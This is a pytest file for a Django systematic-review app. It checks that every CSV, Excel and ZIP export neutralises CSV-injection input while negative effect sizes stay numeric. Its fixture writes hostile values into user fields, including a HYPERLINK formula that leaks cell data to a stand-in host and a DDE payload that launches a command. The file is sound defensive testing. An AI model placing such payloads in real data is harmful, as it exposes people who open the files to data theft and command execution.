"""No export lets a spreadsheet run a formula (OWASP "CSV injection"), whatever users typed.

A review whose every user-typed text starts with = + - @ (source names, study labels, notes,
moderator names and values, outcome names, exclusion reasons, record titles, authors and
journals, reviewers' and resolvers' notes, usernames) is exported through every CSV, Excel and
ZIP download the URL configuration has; no cell of any of them (nor of any CSV inside the ZIP)
may start with a formula character unless it is a plain number, and no Excel cell is a formula.
Negative numbers (the effect sizes) must still be there, as numbers.

The downloads are found by walking the URL resolver: a URL whose name or route says csv, xlsx,
zip, export, sheet or download must be in `EXPORTS` (fetched here) or in `NOT_TABULAR` (why not),
so a new export cannot be forgotten.
"""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from analysis import extraction
from analysis.models import DataType, EffectData, Moderator, ModeratorKind, Outcome, Study
from review.models import Record, Source
from screening import exports as record_exports
from screening.models import ExclusionReason, ExportJob, ScreeningDecision, StageResult
from tests import factories
from tests.prisma_diagram.conftest import build_review

pytestmark = pytest.mark.django_db

FORMULA = ("=", "+", "-", "@", "\t", "\r")
#: a number as the app writes one: repr/format_number, a decimal point or a decimal comma
NUMBER = re.compile(r"-?(?:\d+(?:[.,]\d+)?|[.,]\d+)(?:[eE][+-]?\d+)?")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: every download of a table (url name → the query strings to fetch it with)
EXPORTS = {
    "screening:records-csv": [{}, {"layout": "long"}],
    "screening:records-xlsx": [{}, {"layout": "long"}],
    "screening:export-download": [{}],  # a queued Excel export, built by the worker below
    "screening:agreement-csv": [{}],
    "analysis:sheet-template": [{}],
    "analysis:export": [{}],
    "analysis:prisma-csv": [{}],
}
#: URLs whose name or route looks like a download but which give no table, and why
NOT_TABULAR = {
    "screening:export-job": "the status page of a queued export (its file: export-download)",
    "analysis:prisma-diagram": "the diagram as SVG, PNG or PDF: drawn text, no cells",
    "analysis:plot": "a forest, funnel or bubble plot (SVG, PNG, PDF): no cells",
    "analysis:sheet-upload": "the extraction sheet's upload (POST); its download is sheet-template",
    "screening:bulk-upload": "an upload of full-text PDFs",
}
LOOKS_LIKE_EXPORT = re.compile(r"csv|xlsx|zip|export|sheet|download", re.IGNORECASE)

HOSTILE_SOURCES = {
    "PubMed": '=HYPERLINK("http://evil.example/?x="&A1)',
    "Embase": "+Embase",
    "ClinicalTrials.gov": "-2+3 registry",
    "Citation searching": "@SUM(1) citations",
}
HOSTILE_REASONS = {
    "Wrong population": "=Wrong population",
    "Wrong study design": "@Wrong design",
    "Wrong outcome": "+Wrong outcome",
}


def _patterns(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            namespace = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            yield from _patterns(entry, namespace)
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{prefix}{entry.name}", str(entry.pattern)


def test_every_download_of_the_url_conf_is_walked():
    found = {
        name
        for name, route in _patterns()
        if LOOKS_LIKE_EXPORT.search(f"{name} {route}") and not name.startswith("admin:")
    }
    unknown = found - set(EXPORTS) - set(NOT_TABULAR)
    assert not unknown, f"new downloads: add them to EXPORTS (or NOT_TABULAR, with why): {unknown}"
    stale = (set(EXPORTS) | set(NOT_TABULAR)) - {name for name, _ in _patterns()}
    assert not stale, f"no longer in the URL conf: {stale}"


@pytest.fixture
def hostile():
    """The known PRISMA review (tests/prisma_diagram) with every user-typed text made hostile,
    and an outcome with negative effects, notes and moderators."""
    lead = factories.UserFactory(username="@lead")
    world = build_review(lead, other=True, slug="hostile")
    review = world.review
    for old, new in HOSTILE_SOURCES.items():
        Source.objects.filter(review=review, name=old).update(name=new)
    for old, new in HOSTILE_REASONS.items():
        ExclusionReason.objects.filter(review=review, label=old).update(label=new)
    for i, record in enumerate(Record.objects.filter(review=review)):
        record.title = ["=1+1", "+cmd", "-2+3", "@SUM(A1)"][i % 4] + f" trial {i}"
        record.authors = ["=HYPERLINK(1)", "-Smith, Ann"]
        record.journal = "@Journal"
        record.save()
    ScreeningDecision.objects.filter(review=review).update(note="=cmd|' /C calc'!A0")
    StageResult.objects.filter(review=review).update(note="-resolved+1")
    labels = ["=cmd|' /C calc'!A0", "@Jones 2021", "-Lee 2022", "+Kim 2023"]
    studies = list(review.studies.order_by("pk"))
    for study, label in zip(studies, labels, strict=False):
        study.label = label
        study.save()
    studies += [
        Study.objects.create(review=review, label=label) for label in labels[len(studies) :]
    ]
    outcome = Outcome.objects.create(
        review=review, name="=Mortality", data_type=DataType.GENERIC, measure="GEN"
    )
    group = Moderator.objects.create(
        review=review, name="=allocation", kind=ModeratorKind.CATEGORICAL
    )
    latitude = Moderator.objects.create(review=review, name="-latitude", kind=ModeratorKind.NUMERIC)
    for i, study in enumerate(studies):
        extraction.save_effect_data(
            outcome=outcome, study=study, user=lead, notes=f"=note {i}",
            raw={"yi": -0.24 - i / 10, "sei": 0.1 + i / 100},
        )  # fmt: skip
        extraction.save_moderator_value(moderator=group, study=study, value=["@a", "+b"][i % 2])
        extraction.save_moderator_value(moderator=latitude, study=study, value=f"-{12 + i}.5")
    outcome.subgroup_by, outcome.regress_on = group, latitude
    outcome.save()
    assert EffectData.objects.filter(outcome=outcome).count() == len(studies)
    job = ExportJob.objects.create(review=review, user=lead, layout="wide", resolver=True)
    record_exports.export_job_run(job)
    world.job = job
    return world


def _cells(name: str, content: bytes, content_type: str) -> list[tuple[str, object]]:
    """(where, value) of every cell of a CSV, a workbook, or every CSV inside a ZIP."""
    if "zip" in content_type:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            members = [n for n in archive.namelist() if n.endswith(".csv")]
            assert members, "no CSV in the ZIP"
            return [
                cell for member in members
                for cell in _cells(f"{name}!{member}", archive.read(member), "text/csv")
            ]  # fmt: skip
    if content_type.startswith(XLSX):
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        cells = []
        for sheet in workbook:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name}: a formula in {cell.coordinate}"
                    cells.append((f"{name}!{sheet.title}!{cell.coordinate}", cell.value))
        return cells
    assert content_type.startswith("text/csv"), f"{name}: {content_type}"
    text = content.decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=",;")
    rows = list(csv.reader(io.StringIO(text), dialect))
    return [(f"{name} line {i + 1}", value) for i, row in enumerate(rows) for value in row]


def _unsafe(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA) and not NUMBER.fullmatch(value)


@pytest.mark.parametrize("decimal", ["point", "comma"])
def test_no_export_cell_starts_a_formula(client, hostile, decimal):
    review = hostile.review
    review.decimal_separator = decimal
    review.save()
    client.force_login(hostile.lead)
    fetched, negatives = {}, []
    for name, queries in EXPORTS.items():
        kwargs = {"slug": review.slug}
        if name == "screening:export-download":
            kwargs["job_id"] = hostile.job.pk
        for query in queries:
            response = client.get(reverse(name, kwargs=kwargs), query)
            assert response.status_code == 200, (name, query, response.status_code)
            content = (
                b"".join(response.streaming_content) if response.streaming else response.content
            )
            where = f"{name}?{query}"
            cells = _cells(where, content, response["Content-Type"])
            fetched[where] = len(cells)
            unsafe = [(at, value) for at, value in cells if _unsafe(value)]
            assert not unsafe, f"{len(unsafe)} formula cells, e.g. {unsafe[:5]}"
            negatives += [at for at, value in cells if isinstance(value, str) and
                          value.startswith("-") and NUMBER.fullmatch(value)]  # fmt: skip
    assert all(fetched.values()), fetched
    # the hostile text reached the exports (quoted), and the negative effects stayed numbers
    assert any("extraction.csv" in at for at in negatives)
    assert any("sheet-template" in at for at in negatives)
    assert any("!data/" in at for at in negatives)
